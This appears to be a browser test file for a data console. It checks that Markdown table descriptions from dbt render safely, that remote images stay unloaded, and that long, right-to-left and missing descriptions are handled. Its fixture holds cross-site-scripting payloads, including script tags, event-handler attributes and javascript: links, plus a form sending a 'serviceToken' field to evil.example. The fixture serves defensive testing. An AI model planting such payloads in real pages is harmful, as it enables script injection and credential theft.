import { describe, expect, test } from 'vitest';
import { card } from './support/card.ts';
import { HAS_CHROMIUM, sayWhenSkipped } from './support/chromium.ts';
import { startDescribed } from './support/described-demo.ts';
import { eventually } from './support/eventually.ts';
import { openTable } from './support/open-table.ts';

sayWhenSkipped('descriptions');

const SCRIPTS = `Before.

<script>window.wasExecuted = true</script>
<img src="/nowhere" onerror="window.wasExecuted = true">
<svg onload="window.wasExecuted = true"><circle r="9"></svg>
<iframe srcdoc="<script>parent.wasExecuted = true</script>"></iframe>
<style>body { display: none }</style>
<p style="position: fixed; inset: 0" class="card" id="app" onclick="window.wasExecuted = true">Styled</p>
<form action="https://evil.example"><input name="serviceToken"><button>Send</button></form>

[A script](javascript:window.wasExecuted=true), [data](data:text/html,<script>1</script>), <a href="JaVaScRiPt:window.wasExecuted=true">mixed</a>,
[a page](https://docs.example/customers) and [mail](mailto:team@shop.example).

After.`;

describe.skipIf(!HAS_CHROMIUM)('A description', () => {
  test('that holds scripts, styles, forms and script links is shown as text and links, and nothing of it is executed', async () => {
    await using stack = await startDescribed({ table: SCRIPTS, email: SCRIPTS });
    await using tab = await openTable(stack, 'marts.customers');
    const { page } = tab;
    const description = card(page, 'Description');

    await description.getByText('After.').waitFor();
    for (const words of ['A script', 'data', 'mixed', 'Styled']) {
      await description.getByText(words).first().click();
    }

    expect(await page.evaluate('window.wasExecuted')).toBeUndefined();
    expect(await page.evaluate('location.pathname')).toBe('/console/table');
    expect(await page.getByRole('main').getByRole('textbox', { name: 'serviceToken' }).count()).toBe(0);
    expect(await description.getByRole('button').count()).toBe(0);
    const links = description.getByRole('link');
    expect(await links.count()).toBe(2);
    expect(await links.nth(0).getAttribute('href')).toBe('https://docs.example/customers');
    expect(await links.nth(0).getAttribute('rel')).toBe('noopener noreferrer');
    expect(await links.nth(0).getAttribute('target')).toBe('_blank');
    expect(await links.nth(1).getAttribute('href')).toBe('mailto:team@shop.example');
    const styled = description.getByText('Styled');
    expect(await styled.evaluate((node) => [node.id, node.className, node.style.length])).toEqual([
      '',
      '',
      0,
    ]);
  });

  test('loads no remote image: a link names the host', async () => {
    const text =
      '![The plan](https://images.example/plan.png)\n\n<img src="//images.example/pixel.gif"> ![](http://images.example/two.png)';
    await using stack = await startDescribed({ table: text });
    await using tab = await openTable(stack, 'marts.customers');
    const description = card(tab.page, 'Description');

    await description
      .getByRole('link', { name: /The plan \(opens images\.example in a new tab\)/ })
      .waitFor();

    expect(await tab.page.getByRole('img').count()).toBe(0);
    expect(tab.requests.map((request) => new URL(request.url()).host)).not.toContain('images.example');
  });

  test('of two megabytes leaves the page answering, and is there whole as plain text', async () => {
    const line = '| a | **b** | [c](https://docs.example) |\n';
    const text = `# Long\n\n${line}|---|---|---|\n${line.repeat(48_000)}\nThe end.`;
    expect(text.length).toBeGreaterThan(2_000_000);
    await using stack = await startDescribed({ table: text });
    await using tab = await openTable(stack, 'marts.customers');
    const { page } = tab;

    await card(page, 'Description')
      .getByText(/^The first [\d,]+ of 2,\d{3},\d{3} characters\.$/)
      .waitFor();
    await page.getByLabel('Relation').fill('marts.orders');
    expect(await page.getByLabel('Relation').inputValue()).toBe('marts.orders');
    await page.getByRole('button', { name: 'Show the whole text as plain text' }).click();

    await eventually(() => card(page, 'Description').textContent()).toContain('The end.');
    await page.getByRole('button', { name: 'Show the beginning as Markdown' }).click();
    await eventually(() => card(page, 'Description').textContent()).not.toContain('The end.');
  });

  test('in a script that is written from right to left runs from right to left', async () => {
    await using stack = await startDescribed({ table: 'صف واحد لكل عميل\n\nOne row per customer.' });
    await using tab = await openTable(stack, 'marts.customers');
    const description = card(tab.page, 'Description');
    const directionOf = (words: string) =>
      description
        .getByText(words)
        .evaluate((node) => node.ownerDocument.defaultView?.getComputedStyle(node).direction);

    expect(await directionOf('صف واحد لكل عميل')).toBe('rtl');
    expect(await directionOf('One row per customer.')).toBe('ltr');
  });

  test('that is missing is said to be missing', async () => {
    await using stack = await startDescribed({ table: ' ' });
    await using tab = await openTable(stack, 'marts.customers');

    await card(tab.page, 'Description').getByText('dbt has no description of this table.').waitFor();
  });
});
